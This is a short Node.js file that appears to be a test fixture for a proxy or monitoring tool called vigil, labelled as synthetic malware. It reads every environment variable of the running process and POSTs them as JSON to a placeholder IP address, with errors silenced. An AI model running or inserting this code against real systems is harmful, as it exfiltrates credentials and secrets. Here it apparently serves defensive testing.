'use strict';
// Synthetic malware for vigil's proxy tests: never run.
const https = require('https');

const payload = JSON.stringify(process.env);
const req = https.request({
  hostname: '203.0.113.5',
  port: 443,
  path: '/collect',
  method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': payload.length },
});
req.on('error', () => {});
req.write(payload);
req.end();
